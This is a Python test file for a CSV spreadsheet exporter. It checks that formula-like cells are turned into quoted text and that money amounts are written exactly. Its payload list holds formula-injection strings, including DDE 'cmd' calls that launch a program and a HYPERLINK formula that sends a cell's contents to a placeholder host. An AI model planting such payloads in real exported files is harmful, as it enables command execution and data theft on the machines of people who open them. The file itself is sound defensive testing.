"""What is exported is text and numbers, whatever the text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.money import MINOR_DIGITS, Money
from readmodel.spreadsheet import Cell, as_csv, as_decimal

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.test?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=1+1";=2',
    "=",
]


def read(document: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document.decode(), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload: str) -> None:
    document = as_csv([payload], [[payload]])
    assert read(document) == [[f"'{payload}"]] * 2
    assert document.startswith(b"\"'")


@pytest.mark.parametrize(
    "text", ["", "Metropolis", "M = 1", "Amélie – 愛", "a,b", 'a "b"', "a\r\nb"]
)
def test_other_text_comes_back_as_it_was(text: str) -> None:
    assert read(as_csv(["name"], [[text]])) == [["name"], [text]]


@given(st.lists(st.text(), min_size=1))
def test_no_cell_starts_as_a_formula_and_no_text_is_lost(texts: list[str]) -> None:
    [_, row] = read(as_csv(["x"] * len(texts), [texts]))
    for text, cell in zip(texts, row, strict=True):
        assert cell.removeprefix("'") == text.removeprefix("'")
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_are_plain_and_text_is_quoted() -> None:
    row: list[Cell] = ["-5", -5, as_decimal(Money(-5, "EUR")), 2400, as_decimal(Money(0, "CLF"))]
    lines = as_csv(["a", "b", "c", "d", "e"], [row]).split(b"\r\n")
    assert lines == [b'"a","b","c","d","e"', b'"\'-5",-5,-0.05,2400,0.0000', b""]


@given(st.integers(-(10**15), 10**15), st.sampled_from(["EUR", *MINOR_DIGITS]))
def test_a_decimal_is_written_out_and_exact(amount: int, currency: str) -> None:
    written = str(as_decimal(Money(amount, currency)))
    digits = MINOR_DIGITS.get(currency, 2)
    assert "E" not in written
    assert len(written.partition(".")[2]) == digits
    assert Decimal(written) * 10**digits == amount
